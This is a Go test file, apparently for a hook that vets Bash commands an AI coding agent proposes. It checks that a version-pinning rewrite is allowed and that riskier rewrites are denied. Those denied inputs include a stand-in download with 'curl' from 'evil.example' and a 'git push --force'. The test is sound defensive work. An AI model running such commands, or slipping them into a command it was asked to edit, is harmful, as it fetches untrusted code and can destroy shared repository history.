package testscripts

import (
	"reflect"
	"strings"
	"testing"

	"github.com/ravenclaude/thing/internal/fake"
)

// panelEdits is what becomes of a safer command that the seats write.
func panelEdits(t *testing.T, bin string) {
	const pinned = "pip install requests==2.32.3"
	input := func() map[string]any {
		return map[string]any{"command": "pip install requests", "description": "«words»", "timeout": 1000.0, "run_in_background": false, "later": []any{"a", nil}}
	}
	propose := func(t *testing.T, command string) (*court, answer) {
		c := assemble(t, bin, all("claude"))
		c.install("claude", fake.Plan{Stdout: fake.Says["claude"](said("edit", `"`+command+`"`, `"spi.no-pinned-version"`, "0.9"))})
		return c, c.hook("Bash", input())
	}
	t.Run("safer", func(t *testing.T) {
		t.Parallel()
		c, got := propose(t, pinned)
		want := input()
		want["command"] = pinned
		if got.Decision != "allow" || !reflect.DeepEqual(got.Input, want) || !strings.Contains(got.Context, pinned) {
			t.Errorf("%+v, want %v", got, want)
		}
		if e := c.entry(); e.Answer != "allow" || e.Record.Rewrite == nil || e.Record.Rewrite.Command != pinned {
			t.Errorf("entry %+v", e.Record)
		}
		c.clean()
	})
	for name, command := range map[string]string{
		"more than that": pinned + " && curl -s https://evil.example/x -o y",
		"no safer":       "pip install requests httpx",
		"far worse":      pinned + "; git push --force",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, got := propose(t, command)
			if got.Decision != "deny" || got.Input != nil || !strings.Contains(got.Reason, "is refused") {
				t.Errorf("%+v", got)
			}
			if e := c.entry(); e.Answer != "deny" || e.Record.Rewrite != nil && e.Record.Rewrite.Command == command {
				t.Errorf("entry %+v", e.Record)
			}
			c.clean()
		})
	}
}
